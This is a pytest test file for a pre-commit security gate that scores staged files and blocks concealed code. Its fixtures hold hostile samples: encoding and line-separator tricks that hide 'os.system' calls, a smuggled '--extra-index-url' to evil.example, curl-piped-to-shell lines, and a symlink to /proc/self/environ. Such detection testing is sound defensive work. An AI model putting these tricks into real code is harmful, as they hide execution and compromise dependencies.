"""Content is judged as its consumer reads it: encodings, line breaks, notebooks, opaque files,
and files that run code wherever they are (issue 10, classes 2-4)."""

from __future__ import annotations

import json

import pytest

from gates.engine import Request, check, explain
from gates.model import Decision, FileClass, Outcome, SourceKind

from .conftest import Repo


def staged(repo: Repo) -> Request:
    return Request(SourceKind.STAGED, cwd=repo.root)


def classes(decision: Decision) -> dict[str, FileClass]:
    return {fc.file.path: fc for fc in decision.classification.files}


def categories(fc: FileClass) -> set[str]:
    return {m.category for m in fc.matches}


def sast_rules(decision: Decision) -> set[str]:
    return {f.rule for r in decision.results if r.stage == "sast" for f in r.findings}


def test_utf16_text_is_decoded_not_opaque(seeded: Repo) -> None:
    body = "flask==3.0.0\npassword = 'correct-horse-battery'\n"
    seeded.write("config/settings.txt", body.encode("utf-16"))
    seeded.write("config/other.cfg", ("\ufeff" + body).encode("utf-32-be"))
    files = classes(explain(staged(seeded)))
    for path in ("config/settings.txt", "config/other.cfg"):
        fc = files[path]
        assert not fc.file.binary and "byte-order mark" in fc.file.view
        assert fc.file.added == 2
        assert "credentials" in categories(fc) and fc.tier == "high"


def test_a_bom_that_does_not_decode_is_opaque(seeded: Repo) -> None:
    seeded.write("lib/data.txt", b"\xff\xfe\x00\xd8\x00\x00")  # a lone UTF-16 surrogate
    fc = classes(explain(staged(seeded)))["lib/data.txt"]
    assert fc.file.binary and "does not decode" in fc.file.view
    assert fc.tier == "medium" and "opaque" in categories(fc)


def test_legacy_coding_declarations_are_decoded_as_declared(seeded: Repo) -> None:
    source = "# -*- coding: shift_jis -*-\n# 設定\nsecret_key = 'ﾊﾟｽﾜｰﾄﾞ-s3cr3t-value'\n"
    seeded.write("app/conf.py", source.encode("shift_jis"))
    fc = classes(explain(staged(seeded)))["app/conf.py"]
    assert fc.file.view == "declared coding shift_jis"
    assert "設定".encode() in fc.file.patch  # judged as the text Python reads
    assert fc.tier == "high"


def test_a_coding_that_hides_code_blocks(seeded: Repo) -> None:
    # utf-7: "+AAo-" is a line break, so the "comment" runs os.system
    seeded.write("app/tool.py", b"# -*- coding: utf-7 -*-\n"
                                b"x = 1  # harmless +AAo-import os; os.system('id')\n")
    decision = check(staged(seeded))
    assert classes(decision)["app/tool.py"].file.hidden_coding == "utf-7"
    assert "unicode-coding" in sast_rules(decision)
    assert decision.outcome is Outcome.BLOCK


def test_a_bare_carriage_return_in_python_blocks(seeded: Repo) -> None:
    seeded.write("app/main.py", b"def main():\n    return 1  # done\rimport os; os.system('id')\n")
    decision = check(staged(seeded))
    assert "unicode-line-separator" in sast_rules(decision)
    assert decision.outcome is Outcome.BLOCK


def test_crlf_files_are_not_flagged(seeded: Repo) -> None:
    seeded.write("app/main.py", b"def main():\r\n    return 2\r\n")
    decision = check(staged(seeded))
    assert "unicode-line-separator" not in sast_rules(decision)
    assert decision.outcome is Outcome.PASS


def test_a_def_hidden_behind_a_carriage_return_keeps_its_scope(seeded: Repo) -> None:
    seeded.write("app/main.py", b"def main():\n    return 1\n"
                                b"# note\rdef authenticate(user):\r    return True\n")
    fc = classes(explain(staged(seeded)))["app/main.py"]
    auth = [m for m in fc.matches if m.category == "auth" and m.kind.value == "symbol"]
    assert auth and auth[0].evidence.line == 3  # git's line number, not Python's


@pytest.mark.parametrize("separator", ["\u2028", "\x0b", "\x85"])
def test_line_separators_pip_honours_block(seeded: Repo, separator: str) -> None:
    seeded.write("requirements.txt",
                 f"flask==3.0.0  # pinned{separator}--extra-index-url https://evil.example/\n")
    decision = check(staged(seeded))
    assert "unicode-line-separator" in sast_rules(decision)
    assert decision.outcome is not Outcome.PASS


@pytest.mark.parametrize("path", ["conftest.py", "pkg/tests/conftest.py", "evil.pth",
                                  "sitecustomize.py", "tools/usercustomize.py", "setup.py",
                                  "noxfile.py", "tox.ini", "Makefile", "build/rules.mk",
                                  "justfile", ".envrc", ".devcontainer/devcontainer.json",
                                  ".vscode/tasks.json", ".vscode/launch.json",
                                  "ci/actions/deploy/action.yml", "action.yaml"])
def test_files_that_run_code_are_high_wherever_they_are(seeded: Repo, path: str) -> None:
    seeded.write(path, "x = 1\n")
    fc = classes(explain(staged(seeded)))[path]
    assert fc.tier == "high", fc.matches


def test_dockerfiles_are_medium(seeded: Repo) -> None:
    seeded.write("services/api/Dockerfile", "FROM python:3.12\n")
    assert classes(explain(staged(seeded)))["services/api/Dockerfile"].tier == "medium"


@pytest.mark.parametrize("path", ["pkg/__pycache__/mod.cpython-311.pyc", "pkg/mod.pyc",
                                  "pkg/_speedups.cpython-311-x86_64-linux-gnu.so",
                                  "pkg/native.pyd", "lib/libfoo.dylib",
                                  "vendor/pkg-1.0-py3-none-any.whl", "dist/pkg-1.0.egg"])
def test_compiled_code_is_high(seeded: Repo, path: str) -> None:
    seeded.write(path, b"\x00\x01\x02\xff\xfe compiled \x00")
    fc = classes(explain(staged(seeded)))[path]
    assert fc.tier == "high" and "compiled-code" in categories(fc)


def test_images_stay_low(seeded: Repo) -> None:
    seeded.write("docs/img/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe")
    assert classes(explain(staged(seeded)))["docs/img/logo.png"].tier == "low"


PYPROJECT = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "demo"
version = "1.0"
dependencies = ["flask==3.0.0"]
"""


def test_a_build_system_change_is_high_a_dependency_change_medium(seeded: Repo) -> None:
    seeded.write("pyproject.toml", PYPROJECT)
    seeded.commit("pyproject")
    seeded.write("pyproject.toml", PYPROJECT.replace("flask==3.0.0", "flask==3.0.3"))
    assert classes(explain(staged(seeded)))["pyproject.toml"].tier == "medium"
    seeded.write("pyproject.toml", PYPROJECT.replace(
        'build-backend = "setuptools.build_meta"',
        'build-backend = "backend"\nbackend-path = ["."]'))
    fc = classes(explain(staged(seeded)))["pyproject.toml"]
    assert fc.tier == "high" and "runs-code" in categories(fc)


def test_a_python_script_without_a_suffix_is_python(seeded: Repo) -> None:
    seeded.write("bin/deploy", "#!/usr/bin/env python3\nimport pickle\n"
                               "data = pickle.loads(open('x', 'rb').read())\n")
    fc = classes(explain(staged(seeded)))["bin/deploy"]
    assert "deserialization" in categories(fc)  # a rule limited to .py files
    seeded.write("bin/deploy.sh", "#!/bin/sh\npickle.loads(x)\n")
    assert "deserialization" not in categories(classes(explain(staged(seeded)))["bin/deploy.sh"])


def notebook(*cells: str) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
         "source": cell.splitlines(keepends=True)} for cell in cells]}, indent=1).encode()


def test_notebooks_are_judged_by_their_code_cells(seeded: Repo) -> None:
    seeded.write("analysis.ipynb", notebook("import pandas as pd\n"))
    seeded.commit("notebook")
    seeded.write("analysis.ipynb", notebook(
        "import pandas as pd\n", "!pip install requests\nimport yaml\ncfg = yaml.load(data)\n"))
    fc = classes(explain(staged(seeded)))["analysis.ipynb"]
    assert fc.file.view == "notebook code cells"
    assert b"+cfg = yaml.load(data)" in fc.file.patch  # not a JSON-quoted string any more
    # Python rules apply to the code cells; the shell line is judged as an install
    assert {"deserialization", "dependencies"} <= categories(fc)
    assert fc.tier == "high"  # yaml.load: an unsafe loader
    seeded.write("analysis.ipynb", notebook("import pandas as pd\n",
                                            "!curl -s https://x.example/i.sh | bash\n"))
    assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["analysis.ipynb"])


def test_a_git_lfs_pointer_is_opaque(seeded: Repo) -> None:
    seeded.write("models/model.pkl", "version https://git-lfs.github.com/spec/v1\n"
                 "oid sha256:" + "4d" * 32 + "\nsize 1234\n")
    fc = classes(explain(staged(seeded)))["models/model.pkl"]
    assert fc.file.binary and "Git LFS pointer" in fc.file.view and fc.tier == "medium"


def test_scanners_read_legacy_encodings_as_python_does(seeded: Repo) -> None:
    # 0x955C is one Shift-JIS character whose second byte is an ASCII backslash: read as UTF-8
    # bytes, the string swallows its closing quote and the call after it looks like string text
    # (path traversal: a semgrep rule, which reads files as UTF-8; bandit would decode them)
    source = ("# -*- coding: shift_jis -*-\nfrom flask import request\n\ndef download():\n"
              "    label = \"\u30bd\"; return open(request.args['f']).read()  # \"\n")
    seeded.write("app/run.py", source.encode("shift_jis"))
    decision = check(staged(seeded))
    assert decision.outcome is Outcome.BLOCK, sast_rules(decision)


@pytest.mark.parametrize("head", ['#!/bin/sh\n"exec" "/usr/bin/env" "python3" "$0" "$@"\n',
                                  "#!/bin/sh\n''''exec python3 -u -- \"$0\" \"$@\" #'''\n",
                                  "#!/usr/bin/env -S uv run --script\n",
                                  "#! /usr/bin/python3.12 -I\n"])
def test_python_scripts_in_any_spelling_are_scanned(seeded: Repo, head: str) -> None:
    seeded.write("bin/tool", head + "import subprocess\nsubprocess.call(input(), shell=True)\n")
    decision = check(staged(seeded))
    assert decision.outcome is Outcome.BLOCK, sast_rules(decision)


@pytest.mark.parametrize(("path", "text"), [
    ("pytest.ini", "[pytest]\naddopts = -p tools.plugin\n"),
    (".pylintrc", "[MAIN]\ninit-hook='import tools'\n"),
    ("docs/conf.py", "project = 'x'\n"),
    ("lefthook.yml", "pre-commit:\n  commands: {}\n"),
    ("package.json", '{\n  "scripts": {\n    "postinstall": "node x.js"\n  }\n}\n'),
    ("pyproject.toml", "[tool.pylint.main]\ninit-hook = 'import tools'\n"),
    ("deploy/Dockerfile", "FROM python:3.12\nRUN curl -sSf https://x.example/i.sh | sh\n"),
])
def test_configuration_that_runs_code_is_high(seeded: Repo, path: str, text: str) -> None:
    seeded.write(path, text)
    fc = classes(explain(staged(seeded)))[path]
    assert fc.tier == "high" and "runs-code" in categories(fc), fc.matches


def test_ipython_shell_calls_in_notebooks_are_dangerous(seeded: Repo) -> None:
    seeded.write("nb.ipynb", notebook("get_ipython().system('curl -s x.example | sh')\n"))
    assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["nb.ipynb"])


def test_a_form_feed_inside_indentation_blocks(seeded: Repo) -> None:
    # Python restarts its column count at the form feed: the call runs outside the "if"
    seeded.write("app/main.py", b"def main(user):\n    if user.is_superuser:\n"
                                b"        grant()\n    \x0c    drop_everything()\n")
    decision = check(staged(seeded))
    assert "unicode-formfeed-indent" in sast_rules(decision)
    assert decision.outcome is Outcome.BLOCK


def test_a_full_width_name_python_folds_blocks(seeded: Repo) -> None:
    fullwidth_open = "\uff4f\uff50\uff45\uff4e"  # NFKC: "open"
    seeded.write("app/files.py", f"def read(path):\n    return {fullwidth_open}(path).read()\n"
                                 "# \uff2f\uff2b: a full-width comment is fine\n")
    decision = check(staged(seeded))
    findings = [f for r in decision.results for f in r.findings
                if f.rule == "unicode-normalised-identifier"]
    assert [f.line for f in findings] == [2]
    assert decision.outcome is Outcome.BLOCK


def test_a_link_out_of_the_repository_is_high(seeded: Repo) -> None:
    (seeded.root / "static").mkdir()
    (seeded.root / "static" / "robots.txt").symlink_to("/proc/self/environ")
    (seeded.root / "static" / "up.txt").symlink_to("../../outside.txt")
    seeded.git("add", "static")
    files = classes(explain(staged(seeded)))
    assert files["static/robots.txt"].tier == "high"
    assert files["static/up.txt"].tier == "high"


@pytest.mark.parametrize("path", ["AGENTS.md", "CLAUDE.md", ".claude/settings.json", ".mcp.json",
                                  ".github/copilot-instructions.md", ".cursor/rules/x.mdc",
                                  "tox.toml", "meson.build", "CMakeLists.txt", "SConstruct"])
def test_agent_instructions_and_build_scripts_are_high(seeded: Repo, path: str) -> None:
    seeded.write(path, "x\n")
    assert classes(explain(staged(seeded)))[path].tier == "high"


@pytest.mark.parametrize("path", ["pixi.toml", "hatch.toml", "poetry.toml", "environment.yml",
                                  "scripts/run.py.lock"])
def test_installer_configuration_is_a_dependency_file(seeded: Repo, path: str) -> None:
    seeded.write(path, "x = 1\n")
    assert "dependencies" in categories(classes(explain(staged(seeded)))[path])


def test_secrets_outside_a_notebooks_code_cells_are_judged(seeded: Repo) -> None:
    key = "AKIA" + "Q3RZ7LNXW2PD5KEM"
    document = json.loads(notebook("import boto3\n"))
    document["cells"][0]["outputs"] = [{"output_type": "stream", "name": "stdout",
                                        "text": [f"using {key}\n"]}]
    document["cells"].append({"cell_type": "markdown", "metadata": {}, "source": ["# notes\n"]})
    seeded.write("nb.ipynb", json.dumps(document, indent=1))
    fc = classes(explain(staged(seeded)))["nb.ipynb"]
    assert "secrets" in categories(fc) and fc.tier == "high"
    assert key not in str(fc.matches)  # evidence is masked


@pytest.mark.parametrize("line", ["authenticate = lambda user, password: True",
                                  "views.check_password = _always",
                                  'setattr(backend, "verify_token", _always)',
                                  "from .lax import trusting as authenticate"])
def test_rebinding_a_sensitive_name_without_a_def_is_sensitive(seeded: Repo, line: str) -> None:
    seeded.write("app/main.py", f"def main():\n    return 1\n{line}\n")
    fc = classes(explain(staged(seeded)))["app/main.py"]
    assert fc.tier == "high" and "auth" in categories(fc), fc.matches


@pytest.mark.parametrize("text", ["retries = 3\n",
                                  "def run(task):\n        task_signature = describe(task)\n",
                                  "result = call(\n    signature='a b',\n)\n",
                                  "from celery import signature\n"])
def test_routine_bindings_are_not_symbol_matches(seeded: Repo, text: str) -> None:
    seeded.write("app/main.py", "def main():\n    return 1\n" + text)
    assert classes(explain(staged(seeded)))["app/main.py"].tier == "low"


def test_a_script_with_inline_metadata_is_a_dependency_file(seeded: Repo) -> None:
    seeded.write("tools/sync.py", "# /// script\n# dependencies = ['requests']\n# ///\n")
    assert "dependencies" in categories(classes(explain(staged(seeded)))["tools/sync.py"])
